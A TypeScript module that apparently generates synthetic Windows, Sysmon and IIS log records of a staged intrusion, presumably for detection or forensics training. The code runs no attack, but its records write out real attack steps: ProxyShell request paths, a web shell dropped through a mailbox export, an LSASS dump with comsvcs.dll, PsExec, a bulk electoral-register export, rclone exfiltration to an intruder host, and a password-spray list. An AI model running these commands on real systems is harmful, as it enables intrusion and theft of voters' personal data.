/**
 * The intrusion, 2021 style: ProxyShell on the Exchange front end, a web shell in OWA, LSASS dumped with
 * comsvcs.dll, PsExec to the register database server with a cracked admin password, a bulk export of
 * the electoral register, a password-protected archive sent out with rclone, and the password spray that
 * finally exposed it. Every record is written the way Windows, Sysmon and IIS would write it, on the hosts
 * where it happens, and labelled with its stage for the manifest.
 */
import type { Account, Estate } from './estate.js';
import { DOMAIN, DNS_DOMAIN, MAIL_DOMAIN } from './estate.js';
import type { PeInfo } from './evtx.js';
import { callTrace, sysmonFileCreate, sysmonNetworkConnect, sysmonProcessAccess } from './evtx.js';
import type { StageFacts, StagedRecord, StagedRequest, Tool } from './intruder.js';
import { Builder, INTRUDER, OPERATOR_UA, OWA_AUTH, PE, SHELL_FILE, SHELL_URL, tool } from './intruder.js';
import { CMD, SQL_TOOLS, running, winPe } from './processes.js';
import type { Prng } from './prng.js';
import { HOUR_US, MINUTE_US, SECOND_US, dayStartUs } from './schedule.js';
import { accountLockedOut, exchangeCmdlet, logonFailure, ntlmValidation } from './security.js';
import type { StageId } from './stages.js';

export type { StagedRecord, StagedRequest } from './intruder.js';
export { INTRUDER } from './intruder.js';

const TUNNEL_FILE = 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx';
const TUNNEL_URL = '/aspnet_client/system_web/log.aspx';
const SPRAY_PASSWORDS = ['Summer2021!', 'Welcome1', 'Elections2021', 'Password123', 'August2021!'];

export interface Intrusion {
  /** Windows records by host name. */
  readonly records: ReadonlyMap<string, readonly StagedRecord[]>;
  /** IIS requests by Exchange server name. */
  readonly requests: ReadonlyMap<string, readonly StagedRequest[]>;
  readonly facts: ReadonlyMap<StageId, StageFacts>;
  /** The administrator whose credentials are stolen. */
  readonly victim: Account;
}

/** The day of a stage: spread over the replay, in order, whatever its length. */
export function stageDay(days: number, fraction: number): number {
  return Math.min(days - 1, Math.round(fraction * (days - 1)));
}

function exploitation(b: Builder, t0: number): void {
  const stage: StageId = 'exploitation';
  const d = INTRUDER.ssrfDomain;
  const ua = 'python-requests/2.26.0';
  let t = t0;
  const hit = (method: string, stem: string, query: string, status: number, userAgent = ua): void => {
    b.web(stage, {
      timeUs: t,
      method,
      stem,
      query,
      username: '-',
      clientIp: INTRUDER.exploitIp,
      userAgent,
      status,
      timeTakenMs: b.rng.range(15, 400),
    });
    t += b.rng.range(800, 4000) * 1000;
  };
  hit('GET', '/owa/auth/logon.aspx', '-', 200, 'Mozilla/5.0 zgrab/0.x');
  hit(
    'GET',
    '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application',
    '-',
    200,
    'Mozilla/5.0 zgrab/0.x',
  );
  hit('POST', '/ecp/y.js', '-', 500);
  hit(
    'GET',
    '/autodiscover/autodiscover.json',
    `@${d}/owa/?&Email=autodiscover/autodiscover.json%3F@${d}`,
    302,
  );
  hit(
    'POST',
    '/autodiscover/autodiscover.json',
    `@${d}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@${d}`,
    200,
  );
  hit(
    'POST',
    '/autodiscover/autodiscover.json',
    `@${d}/mapi/emsmdb/?&Email=autodiscover/autodiscover.json%3F@${d}`,
    200,
  );
  for (let i = 0; i < 2; i++) {
    hit(
      'POST',
      '/autodiscover/autodiscover.json',
      `@${d}/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@${d}`,
      200,
    );
  }
  t += 40 * SECOND_US;
  const token =
    'VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBVBZG1pbmlzdHJhdG9yQGVsZWN0aW9uc1UsUy0xLTUtMjEtMjk3Nzc3Mzg0MC0yOTMwMTk4MTY1LTE1NTEwOTM5NjItNTAwRwEAAAAHAAAADFMtMS01LTMyLTU0NEUAAAAA';
  for (let i = 0; i < 6; i++) {
    hit(
      'POST',
      '/autodiscover/autodiscover.json',
      `@${d}/powershell/?X-Rps-CAT=${token}&Email=autodiscover/autodiscover.json%3F@${d}`,
      200,
    );
  }
  b.fact(stage).accounts.add(`${DOMAIN}\\Administrator (impersonated)`);
}

function webShell(b: Builder, t0: number): void {
  const stage: StageId = 'web-shell';
  const host = b.exchange;
  const c = b.ctx(host);
  const admin = b.estate.services.builtinAdministrator;
  const pool = running(b.exchangeProcs, 'w3wp-powershell');
  const cmdlet = (t: number, name: string, parameters: string): void =>
    b.add(
      stage,
      host,
      exchangeCmdlet(c, t, {
        name,
        parameters,
        caller: `${DNS_DOMAIN}/Users/Administrator`,
        callerSid: admin.sid,
        process: `${pool.pid} w3wp#MSExchangePowerShellAppPool`,
        remoteHost: 'ServerRemoteHost-Unknown',
      }),
    );
  let t = t0;
  cmdlet(t, 'New-ManagementRoleAssignment', '-Role "Mailbox Import Export" -User "Administrator"');
  t += 95 * SECOND_US;
  cmdlet(
    t,
    'New-MailboxExportRequest',
    `-Mailbox "Administrator@${MAIL_DOMAIN}" -IncludeFolders ("#Drafts#") -ContentFilter "(Subject -eq 'kvrn3x')" -ExcludeDumpster -FilePath "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\OutlookEN.aspx"`,
  );
  t += 40 * SECOND_US;
  // The export arrives over the loopback share, so the file system sees the System process writing it.
  b.add(stage, host, sysmonFileCreate(c, t, running(b.exchangeProcs, 'system'), SHELL_FILE));
  t += 35 * SECOND_US;
  cmdlet(t, 'Remove-MailboxExportRequest', '-Identity "Administrator\\MailboxExport" -Confirm:$false');
  b.fact(stage).accounts.add(`${DOMAIN}\\Administrator (impersonated)`);
  t += (4 + b.rng.int(6)) * MINUTE_US;
  const win = (original: string, description: string): PeInfo => winPe(host, original, description);
  const commands: readonly [string, Tool][] = [
    [
      'whoami',
      tool(
        'C:\\Windows\\System32\\whoami.exe',
        win('whoami.exe', 'whoami - displays logged on user information'),
        'whoami',
      ),
    ],
    [
      'ipconfig /all',
      tool(
        'C:\\Windows\\System32\\ipconfig.exe',
        win('ipconfig.exe', 'IP Configuration Utility'),
        'ipconfig  /all',
      ),
    ],
    [
      'net group "domain admins" /domain',
      tool(
        'C:\\Windows\\System32\\net.exe',
        win('net.exe', 'Net Command'),
        'net  group "domain admins" /domain',
      ),
    ],
    [
      `nltest /dclist:${DNS_DOMAIN}`,
      tool(
        'C:\\Windows\\System32\\nltest.exe',
        win('nltestrk.exe', 'Microsoft® Logon Server Test Utility'),
        `nltest  /dclist:${DNS_DOMAIN}`,
      ),
    ],
    ['quser', tool('C:\\Windows\\System32\\quser.exe', win('quser.exe', 'Query User Utility'), 'quser')],
  ];
  for (const [command, program] of commands) {
    b.shell(stage, t, command, [program]);
    t += b.rng.range(20, 140) * SECOND_US;
  }
}

function credentialDumping(b: Builder, t0: number): void {
  const stage: StageId = 'credential-dumping';
  const host = b.exchange;
  const c = b.ctx(host);
  const win = (original: string, description: string): PeInfo => winPe(host, original, description);
  let t = t0;
  b.shell(stage, t, 'tasklist /fi "imagename eq lsass.exe"', [
    tool(
      'C:\\Windows\\System32\\tasklist.exe',
      win('tasklist.exe', 'Lists the current running tasks'),
      'tasklist  /fi "imagename eq lsass.exe"',
    ),
  ]);
  t += b.rng.range(40, 120) * SECOND_US;
  const lsass = running(b.exchangeProcs, 'lsass');
  const dump = 'C:\\Windows\\Temp\\dbg.dmp';
  const dumpCommand = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`;
  const [rundll32] = b.shell(stage, t, dumpCommand, [
    tool(
      'C:\\Windows\\System32\\rundll32.exe',
      win('RUNDLL32.EXE', 'Windows host process (Rundll32)'),
      `rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`,
    ),
  ]);
  b.add(
    stage,
    host,
    sysmonProcessAccess(
      c,
      t + 400_000,
      rundll32!,
      lsass,
      '0x1fffff',
      callTrace(c, 'C:\\Windows\\System32\\rundll32.exe', [
        'C:\\Windows\\System32\\dbgcore.dll',
        'C:\\Windows\\System32\\comsvcs.dll',
      ]),
    ),
  );
  b.add(stage, host, sysmonFileCreate(c, t + 2 * SECOND_US, rundll32!, dump));
  t += b.rng.range(60, 200) * SECOND_US;
  const cab = `${OWA_AUTH}\\dbg.cab`;
  const [makecab] = b.shell(stage, t, `makecab ${dump} "${cab}"`, [
    tool(
      'C:\\Windows\\System32\\makecab.exe',
      win('makecab.exe', 'Microsoft® Cabinet Maker'),
      `makecab  ${dump} "${cab}"`,
    ),
  ]);
  b.add(stage, host, sysmonFileCreate(c, t + 9 * SECOND_US, makecab!, cab));
  t += b.rng.range(30, 90) * SECOND_US;
  b.web(stage, {
    timeUs: t,
    method: 'GET',
    stem: '/owa/auth/dbg.cab',
    query: '-',
    username: '-',
    clientIp: INTRUDER.operatorIp,
    userAgent: OPERATOR_UA,
    status: 200,
    timeTakenMs: b.rng.range(4000, 12000),
  });
  t += b.rng.range(120, 400) * SECOND_US;
  b.shell(stage, t, `del /f /q ${dump} "${cab}"`, []);
}

function lateralMovement(b: Builder, t0: number): void {
  const stage: StageId = 'lateral-movement';
  const host = b.exchange;
  const c = b.ctx(host);
  let t = t0;
  // The web shell writes PsExec (uploaded through it) to disk.
  b.web(stage, {
    timeUs: t,
    method: 'POST',
    stem: SHELL_URL,
    query: '-',
    username: '-',
    clientIp: INTRUDER.operatorIp,
    userAgent: OPERATOR_UA,
    status: 200,
    timeTakenMs: 1400,
  });
  b.add(
    stage,
    host,
    sysmonFileCreate(c, t + 900_000, running(b.exchangeProcs, 'w3wp-owa'), 'C:\\Windows\\Temp\\ps.exe'),
  );
  t += b.rng.range(60, 180) * SECOND_US;
  const win = (original: string, description: string): PeInfo => winPe(b.registerDb, original, description);
  b.psexec(
    stage,
    t,
    tool(
      CMD,
      win('Cmd.Exe', 'Windows Command Processor'),
      'cmd /c "whoami /all & hostname & net localgroup administrators"',
    ),
  );
  t += b.rng.range(120, 400) * SECOND_US;
  b.psexec(
    stage,
    t,
    tool(
      `${SQL_TOOLS}\\SQLCMD.EXE`,
      PE.sqlcmd,
      'sqlcmd -S REGDB01 -E -Q "SELECT name, create_date FROM sys.databases"',
    ),
  );
}

function registerExport(b: Builder, t0: number): void {
  const stage: StageId = 'register-export';
  const target = b.registerDb;
  const c = b.ctx(target);
  let t = t0;
  b.psexec(
    stage,
    t,
    tool(
      `${SQL_TOOLS}\\SQLCMD.EXE`,
      PE.sqlcmd,
      'sqlcmd -S REGDB01 -E -d ElectoralRegister -Q "SELECT t.name, SUM(p.rows) FROM sys.tables t JOIN sys.partitions p ON t.object_id = p.object_id GROUP BY t.name"',
    ),
  );
  t += b.rng.range(90, 300) * SECOND_US;
  const sqlcmd = b.psexec(
    stage,
    t,
    tool(
      `${SQL_TOOLS}\\SQLCMD.EXE`,
      PE.sqlcmd,
      'sqlcmd -S REGDB01 -E -d ElectoralRegister -Q "SET NOCOUNT ON; SELECT * FROM dbo.Electors" -s "|" -W -o C:\\Windows\\Temp\\Electors.csv',
    ),
  );
  b.add(stage, target, sysmonFileCreate(c, t + 3 * SECOND_US, sqlcmd, 'C:\\Windows\\Temp\\Electors.csv'));
  t += b.rng.range(200, 500) * SECOND_US;
  const bcp = b.psexec(
    stage,
    t,
    tool(
      `${SQL_TOOLS}\\bcp.exe`,
      PE.bcp,
      'bcp "SELECT * FROM ElectoralRegister.dbo.OverseasElectors" queryout C:\\Windows\\Temp\\OverseasElectors.csv -c -t "|" -T -S REGDB01',
    ),
  );
  b.add(
    stage,
    target,
    sysmonFileCreate(c, t + 3 * SECOND_US, bcp, 'C:\\Windows\\Temp\\OverseasElectors.csv'),
  );
}

function stagingAndExfiltration(b: Builder, t0: number): void {
  const stage: StageId = 'staging-exfiltration';
  const target = b.registerDb;
  const c = b.ctx(target);
  let t = t0;
  const archive = 'C:\\Windows\\Temp\\wsus_cache.7z';
  b.web(stage, {
    timeUs: t,
    method: 'POST',
    stem: SHELL_URL,
    query: '-',
    username: '-',
    clientIp: INTRUDER.operatorIp,
    userAgent: OPERATOR_UA,
    status: 200,
    timeTakenMs: 2100,
  });
  b.add(
    stage,
    b.exchange,
    sysmonFileCreate(
      b.ctx(b.exchange),
      t + SECOND_US,
      running(b.exchangeProcs, 'w3wp-owa'),
      'C:\\Windows\\Temp\\7za.exe',
    ),
  );
  b.add(
    stage,
    b.exchange,
    sysmonFileCreate(
      b.ctx(b.exchange),
      t + 2 * SECOND_US,
      running(b.exchangeProcs, 'w3wp-owa'),
      'C:\\Windows\\Temp\\rclone.exe',
    ),
  );
  t += b.rng.range(60, 200) * SECOND_US;
  const zip = b.psexec(
    stage,
    t,
    tool(
      'C:\\Windows\\Temp\\7za.exe',
      PE.sevenZip,
      `7za.exe a -t7z -mx9 -mhe=on -pW1nter!sC0ming ${archive} C:\\Windows\\Temp\\Electors.csv C:\\Windows\\Temp\\OverseasElectors.csv`,
    ),
    true,
  );
  b.add(stage, target, sysmonFileCreate(c, t + 25 * SECOND_US, zip, archive));
  t += b.rng.range(300, 900) * SECOND_US;
  const rclone = b.psexec(
    stage,
    t,
    tool(
      'C:\\Windows\\Temp\\rclone.exe',
      PE.rclone,
      `rclone.exe copy ${archive} :sftp,host=${INTRUDER.exfiltrationIp},user=upd,pass=2XJ9cWt0b0H8bXYL1Qz6LQ:/in --transfers 1 --no-check-dest -q`,
    ),
    true,
  );
  b.add(
    stage,
    target,
    sysmonNetworkConnect(c, t + 3 * SECOND_US, {
      proc: rclone,
      initiated: true,
      sourceIp: target.ip,
      sourceHostname: target.fqdn,
      sourcePort: b.rng.range(49152, 65535),
      destinationIp: INTRUDER.exfiltrationIp,
      destinationHostname: '-',
      destinationPort: 22,
    }),
  );
  b.fact(stage).sourceIps.add(INTRUDER.exfiltrationIp);
  t += b.rng.range(600, 1500) * SECOND_US;
  b.psexec(
    stage,
    t,
    tool(
      CMD,
      winPe(target, 'Cmd.Exe', 'Windows Command Processor'),
      `cmd /c del /f /q C:\\Windows\\Temp\\Electors.csv C:\\Windows\\Temp\\OverseasElectors.csv ${archive} C:\\Windows\\7za.exe C:\\Windows\\rclone.exe`,
    ),
  );
}

/** Metasploit's SMB client sends a random 16-letter workstation name with every login attempt. */
function randomWorkstation(rng: Prng): string {
  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  let name = '';
  for (let i = 0; i < 16; i++) name += letters[rng.int(letters.length)];
  return name;
}

function failedLogonBurst(b: Builder, t0: number): void {
  const stage: StageId = 'failed-logon-burst';
  const exchange = b.exchange;
  const dc = b.dc;
  const ec = b.ctx(exchange);
  const dcc = b.ctx(dc);
  let t = t0;
  b.web(stage, {
    timeUs: t,
    method: 'POST',
    stem: SHELL_URL,
    query: '-',
    username: '-',
    clientIp: INTRUDER.operatorIp,
    userAgent: OPERATOR_UA,
    status: 200,
    timeTakenMs: 600,
  });
  b.add(
    stage,
    exchange,
    sysmonFileCreate(ec, t + 500_000, running(b.exchangeProcs, 'w3wp-owa'), TUNNEL_FILE),
  );
  t += b.rng.range(60, 180) * SECOND_US;
  const estate = b.estate;
  const targets: { name: string; account?: Account }[] = [
    { name: 'Administrator', account: estate.services.builtinAdministrator },
    ...estate.admins.slice(1).map((account) => ({ name: account.name, account })),
    { name: estate.services.sql.name, account: estate.services.sql },
    { name: estate.services.backup.name, account: estate.services.backup },
    { name: estate.services.sqlAgent.name, account: estate.services.sqlAgent },
    { name: 'sqladmin' },
    { name: 'backupadmin' },
  ];
  const tunnel = running(b.exchangeProcs, 'w3wp-default');
  const failures = new Map<string, number>();
  const lockoutThreshold = 5;
  const facts = b.fact(stage);
  facts.hosts.add(dc.name);
  const tunnelRequest = (at: number, query: string): void =>
    b.web(stage, {
      timeUs: at,
      method: 'POST',
      stem: TUNNEL_URL,
      query,
      username: '-',
      clientIp: INTRUDER.operatorIp,
      userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
      status: 200,
      timeTakenMs: b.rng.range(5, 60),
    });
  for (const password of SPRAY_PASSWORDS) {
    void password;
    for (const target of targets) {
      facts.accounts.add(`${DOMAIN}\\${target.name}`);
      tunnelRequest(t, `cmd=connect&target=${dc.ip}&port=445`);
      b.add(
        stage,
        exchange,
        sysmonNetworkConnect(ec, t + 40_000, {
          proc: tunnel,
          initiated: true,
          sourceIp: exchange.ip,
          sourceHostname: exchange.fqdn,
          sourcePort: b.rng.range(49152, 65535),
          destinationIp: dc.ip,
          destinationHostname: dc.fqdn,
          destinationPort: 445,
        }),
      );
      tunnelRequest(t + 60_000, 'cmd=forward');
      const workstation = randomWorkstation(b.rng);
      const count = (failures.get(target.name) ?? 0) + 1;
      failures.set(target.name, count);
      const locked = target.account !== undefined && count > lockoutThreshold;
      const subStatus = target.account === undefined ? '0xc0000064' : locked ? '0xc0000234' : '0xc000006a';
      const status = target.account === undefined ? '0xc0000064' : locked ? '0xc0000234' : '0xc000006a';
      b.add(stage, dc, ntlmValidation(dcc, t + 90_000, target.name, workstation, status));
      b.add(
        stage,
        dc,
        logonFailure(dcc, t + 95_000, {
          userName: target.name,
          domainName: DOMAIN,
          logonType: 3,
          ip: exchange.ip,
          workstation,
          subStatus,
        }),
      );
      if (target.account !== undefined && count === lockoutThreshold) {
        b.add(stage, dc, accountLockedOut(dcc, t + 120_000, target.account, workstation));
      }
      tunnelRequest(t + 130_000, 'cmd=read');
      tunnelRequest(t + 150_000, 'cmd=disconnect');
      t += b.rng.range(350, 900) * 1000;
    }
  }
  facts.sourceIps.add(exchange.ip);
}

/** Builds the intrusion for a replay of `days` days. */
export function buildIntrusion(seed: number, estate: Estate, days: number): Intrusion {
  const victim = estate.admins[0];
  if (victim === undefined) throw new Error('the estate has no administrator');
  const b = new Builder(seed, estate, victim);
  const at = (fraction: number, hour: number, maxMinutes: number): number =>
    dayStartUs(stageDay(days, fraction)) +
    hour * HOUR_US +
    b.rng.int(maxMinutes) * MINUTE_US +
    b.rng.int(60) * SECOND_US;
  exploitation(b, at(0.08, 2, 20) + 40 * MINUTE_US);
  webShell(b, at(0.08, 3, 20) + 20 * MINUTE_US);
  credentialDumping(b, at(0.22, 5, 30) + 30 * MINUTE_US);
  lateralMovement(b, at(0.38, 7, 30) + 30 * MINUTE_US);
  registerExport(b, at(0.55, 9, 20));
  stagingAndExfiltration(b, at(0.62, 10, 20) + 40 * MINUTE_US);
  failedLogonBurst(b, at(0.8, 13, 20) + 5 * MINUTE_US);
  return { records: b.records, requests: b.requests, facts: b.facts, victim };
}
